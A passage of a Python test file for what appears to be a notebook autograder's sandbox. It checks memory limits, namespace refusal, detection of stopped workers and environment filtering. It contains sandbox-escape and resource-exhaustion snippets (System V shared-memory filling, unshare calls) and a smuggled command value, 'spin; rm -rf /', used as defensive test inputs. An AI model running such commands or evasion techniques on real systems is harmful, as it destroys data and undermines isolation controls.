_libc.shmat.restype = ctypes.c_void_p
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
for _k in range(3):
    _id = _libc.shmget(0, 400 << 20, 0o1000 | 0o600)
    _a = _libc.shmat(_id, None, 0)
    ctypes.memset(_a, 1, 400 << 20)
    _libc.shmdt(_a)
import time
time.sleep(30)
"""
PRIVATE_TMPFS = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_uid = os.geteuid()
if _libc.unshare(0x10000000 | 0x00020000) != 0:
    raise OSError(ctypes.get_errno(), 'unshare refused')
"""


def test_memory_in_sysv_segments_counts_and_private_mounts_are_refused(course, tmp_path):
    root, out = tmp_path / "class", tmp_path / "out"
    _write(root, "sysv", _with(_solution(course), SYSV_FILL))
    _write(root, "tmpfs", _with(_solution(course), PRIVATE_TMPFS))
    rc, results = _grade(root, out, "--memory-mb", "1000", "--cell-timeout", "60")
    assert results["sysv"].checks[0].message.endswith(": the notebook used more than 1000 MB of memory"), \
        results["sysv"].checks[0].message
    assert "PermissionError: [Errno 1] unshare refused" in results["tmpfs"].checks[0].message   # (EPERM: seccomp)


def test_a_stopped_worker_is_seen_at_once_but_a_notebooks_stopped_process_is_not(tmp_path):
    """While a worker starts it sends no heartbeat: a SIGSTOP then is found by its state, not
    after the 300 s start limit. A process the notebook stops itself is the notebook's affair."""
    import subprocess
    import sys
    import time
    script = tmp_path / "tree.py"
    script.write_text("import subprocess, sys, time\n"
                      "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', 'autograder.worker'])\n"
                      "print(child.pid, flush=True)\ntime.sleep(60)\n")
    root = subprocess.Popen([sys.executable, str(script), "autograder.worker"], stdout=subprocess.PIPE)
    grandchild = int(root.stdout.readline())
    try:
        time.sleep(0.2)
        assert not sandbox._stopped(os.getpid())
        os.kill(grandchild, signal.SIGSTOP)         # the "notebook's" process
        time.sleep(0.2)
        assert not sandbox._stopped(os.getpid())
        os.kill(root.pid, signal.SIGSTOP)           # the "worker"
        time.sleep(0.2)
        assert sandbox._stopped(os.getpid())
    finally:
        os.kill(grandchild, signal.SIGKILL)
        os.kill(root.pid, signal.SIGKILL)
        root.wait()


@pytest.mark.parametrize("policy, passed", [("passive", "PASSIVE"), ("ACTIVE", "ACTIVE"), ("spin; rm -rf /", None), (None, None)])
def test_the_graders_openmp_wait_policy_and_nothing_else_reaches_the_sandbox(tmp_path, monkeypatch, policy, passed):
    """`make test` sets OMP_WAIT_POLICY=PASSIVE (two pytest workers on two cores: a spinning
    OpenMP thread burns the other's core); the sandbox's cleared environment takes that one
    variable from the grader's, where it is a policy OpenMP knows, and no other."""
    if policy is None:
        monkeypatch.delenv("OMP_WAIT_POLICY", raising=False)
    else:
        monkeypatch.setenv("OMP_WAIT_POLICY", policy)
    monkeypatch.setenv("COURSE_SECRET_TOKEN", SECRET)
    cmd = sandbox.bwrap_command(tmp_path, 0, sandbox.SandboxOptions())
    env = {cmd[i + 1]: cmd[i + 2] for i, arg in enumerate(cmd) if arg == "--setenv"}
    assert "--clearenv" in cmd and env.get("OMP_WAIT_POLICY") == passed
    assert "COURSE_SECRET_TOKEN" not in env and SECRET not in cmd
